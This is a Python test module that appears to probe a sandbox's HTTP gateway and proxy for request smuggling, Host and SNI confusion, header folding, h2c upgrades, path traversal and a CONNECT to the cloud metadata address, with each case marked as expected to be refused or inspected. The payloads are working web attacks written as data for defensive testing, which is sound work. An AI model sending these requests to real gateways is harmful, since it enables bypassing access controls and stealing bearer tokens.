"""Requests that mean one thing to the gateway and another to the server."""

from channel import (CONTROL, PLACEHOLDERS, add, connect, exchange, headers, open_site, proxy,
                     read_all, site, technique, tls)

INNER = f"GET /head HTTP/1.1\r\nHost: {site('X')}\r\nX-Control: {CONTROL}\r\nX-Smuggled: 1\r\n\r\n"


def post(framing, body, place="B"):
    lines = headers(place, *framing)
    return exchange(place, f"POST /head HTTP/1.1\r\n{lines}\r\n\r\n{body}")


FRAMINGS = {
    "a length and chunks": (["Content-Length: 4", "Transfer-Encoding: chunked"], "0\r\n\r\n" + INNER),
    "chunks and a length": (["Transfer-Encoding: chunked", f"Content-Length: {len(INNER) + 5}"],
                            "0\r\n\r\n" + INNER),
    "two lengths": (["Content-Length: 0", f"Content-Length: {len(INNER)}"], INNER),
    "a list of lengths": ([f"Content-Length: 0, {len(INNER)}"], INNER),
    "a signed length": (["Content-Length: +0"], INNER),
    "a length of hex": (["Content-Length: 0x10"], INNER),
    "an unknown coding": (["Transfer-Encoding: xchunked"], "0\r\n\r\n" + INNER),
    "chunked twice": (["Transfer-Encoding: chunked, chunked"], "0\r\n\r\n" + INNER),
    "chunked, then identity": (["Transfer-Encoding: chunked", "Transfer-Encoding: identity"],
                               "0\r\n\r\n" + INNER),
    "a coding after a tab": (["Transfer-Encoding:\tchunked"], "0\r\n\r\n" + INNER),
    "a coding before a blank": (["Transfer-Encoding : chunked"], "0\r\n\r\n" + INNER),
    "a folded coding": (["Transfer-Encoding:\r\n chunked"], "0\r\n\r\n" + INNER),
    "a chunk size too large": (["Transfer-Encoding: chunked"], "fffffffffffffffff\r\n" + INNER),
    "a chunk extension with a line feed": (["Transfer-Encoding: chunked"], "0;a\nb\r\n\r\n" + INNER),
    "connection names the length": (["Connection: content-length", "Content-Length: 5"], "abcde" + INNER),
    "connection names the host": (["Connection: host"], INNER),
    "connection names the secret's header": (["Connection: x-long, authorization"], INNER),
}
for what, (framing, body) in FRAMINGS.items():
    add(f"smuggling by {what}", "look", post, framing, body)


def raw(place, text):
    return exchange(place, text.replace("CONTROL", CONTROL))


A, X, KEY = site("A"), site("X"), PLACEHOLDERS["BEARER"]
END = "X-Control: CONTROL\r\nConnection: close\r\n\r\n"
for what, kind, text in (
    ("a folded header", "look", f"GET /head HTTP/1.1\r\nHost: {A}\r\nAuthorization: Bearer\r\n {KEY}\r\n{END}"),
    ("bare line feeds", "look", f"GET /head HTTP/1.1\nHost: {A}\nAuthorization: Bearer {KEY}\n{END}"),
    ("a bare carriage return", "look", f"GET /head HTTP/1.1\r\nHost: {A}\r\nX-A: b\rHost: {X}\r\n{END}"),
    ("a NUL in a header", "refused", f"GET /head HTTP/1.1\r\nHost: {A}\r\nX-A: \0\r\n{END}"),
    ("the URL of X in the tunnel to A", "refused", f"GET https://{X}/head HTTP/1.1\r\nHost: {X}\r\n{END}"),
    ("the URL of X, the host of A", "refused", f"GET https://{X}/head HTTP/1.1\r\nHost: {A}\r\n{END}"),
    ("the clear URL of A in its tunnel", "refused", f"GET http://{A}/head HTTP/1.1\r\nHost: {A}\r\n{END}"),
    ("the URL of A, the host of X", "refused", f"GET https://{A}/head HTTP/1.1\r\nHost: {X}\r\n{END}"),
    ("the host of X in the tunnel to A", "refused", f"GET /head HTTP/1.1\r\nHost: {X}\r\n{END}"),
    ("two hosts", "refused", f"GET /head HTTP/1.1\r\nHost: {A}\r\nHost: {X}\r\n{END}"),
    ("a list of hosts", "refused", f"GET /head HTTP/1.1\r\nHost: {A}, {X}\r\n{END}"),
    ("a user in the URL", "look", f"GET https://{X}@{A}/head HTTP/1.1\r\nHost: {A}\r\n{END}"),
    ("a user in the host", "refused", f"GET /head HTTP/1.1\r\nHost: {A}@{X}\r\n{END}"),
    ("CONNECT in the tunnel", "refused", f"CONNECT {X} HTTP/1.1\r\nHost: {X}\r\n{END}"),
    ("a second request to X in one go", "look", f"GET /head HTTP/1.1\r\nHost: {A}\r\n\r\nGET /head HTTP/1.1\r\nHost: {X}\r\n{END}"),
    ("an upgrade to HTTP/2", "look", f"GET /head HTTP/1.1\r\nHost: {A}\r\nConnection: upgrade, http2-settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n{END}"),
    ("an upgrade to two protocols", "look", f"GET /switch HTTP/1.1\r\nHost: {A}\r\nConnection: upgrade\r\nUpgrade: websocket, h2c\r\n{END}"),
    ("HTTP/1.0 without a host", "look", "GET /head HTTP/1.0\r\nX-Control: CONTROL\r\n\r\n"),
    ("HTTP/0.9", "look", "GET /head\r\n"),
    ("HTTP/9.9", "refused", f"GET /head HTTP/9.9\r\nHost: {A}\r\n{END}"),
    ("the proxy's own headers", "look", f"GET /head HTTP/1.1\r\nHost: {A}\r\nProxy-Authorization: Bearer {KEY}\r\n{END}"),
    ("forwarded hosts", "look", f"GET /head HTTP/1.1\r\nHost: {A}\r\nX-Forwarded-Host: {X}\r\nForwarded: host={X}\r\n{END}"),
    ("a path with the URL of X", "look", f"GET //{X}/head HTTP/1.1\r\nHost: {A}\r\n{END}"),
    ("a path with dots", "look", f"GET /../../head HTTP/1.1\r\nHost: {A}\r\n{END}"),
    ("a line break in the path", "refused", f"GET /head%0d%0a\r\nHost: {A} HTTP/1.1\r\n{END}"),
):
    add(f"request with {what}", kind, raw, "A", text)


@technique("absolute URL with a user, by the proxy", "look")
def user_in_url():
    sock = proxy()
    sock.sendall(f"GET http://{X}@{site('P')}/head HTTP/1.1\r\nHost: {site('P')}\r\nX-Control: {CONTROL}\r\n"
                 "Connection: close\r\n\r\n".encode())
    return read_all(sock)


@technique("https URL to the proxy", "refused")
def https_by_proxy():
    sock = proxy()
    sock.sendall(f"GET https://{A}/head HTTP/1.1\r\nHost: {A}\r\nX-Control: {CONTROL}\r\n"
                 f"Authorization: Bearer {KEY}\r\nConnection: close\r\n\r\n".encode())
    return read_all(sock)


def server_name(tunnel, name, host):
    sock = tls(connect(site(tunnel)), name)
    sock.sendall(f"GET /head HTTP/1.1\r\nHost: {site(host)}\r\nX-Control: {CONTROL}\r\n"
                 f"Authorization: Bearer {KEY}\r\nConnection: close\r\n\r\n".encode())
    return read_all(sock)


add("another server name, host A", "refused", server_name, "A", "api.example.com", "A")
add("another server name, decrypted host Y", "refused", server_name, "Y", "api.example.com", "Y")
add("the server name of A, host X", "refused", server_name, "A", "host.vm0.internal", "X")
add("tunnel to Y, host A", "refused", server_name, "Y", "host.vm0.internal", "A")
add("tunnel to X, host A", "look", server_name, "X", "host.vm0.internal", "A")
add("no server name", "look", server_name, "A", None, "A")


@technique("TLS in the TLS of A", "look")
def nested():
    sock = open_site("A")
    sock.sendall(b"\x16\x03\x01\x00\x05hello")
    return read_all(sock)


@technique("half a hello, then clear text", "look")
def broken_hello():
    sock = connect(site("A"))
    sock.sendall(f"\x16GET /head HTTP/1.1\r\nHost: {A}\r\nAuthorization: Bearer {KEY}\r\n\r\n".encode())
    return read_all(sock)


@technique("errors of the gateway", "look")
def errors():
    found = b""
    for line in ("GET / HTTP/1.1", "CONNECT host HTTP/1.1", "CONNECT host.vm0.internal:1 HTTP/1.1",
                 "GET http://[ HTTP/1.1", "GET ftp://a/ HTTP/1.1", "\x00\x01", f"GET {'a' * 70000} HTTP/1.1",
                 f"CONNECT {KEY} HTTP/1.1", "CONNECT 169.254.169.254:80 HTTP/1.1"):
        sock = proxy()
        sock.sendall(f"{line}\r\nHost: {A}\r\nAuthorization: Bearer {KEY}\r\n\r\n".encode())
        sock.settimeout(1)
        found += read_all(sock)
        sock.close()
    return found
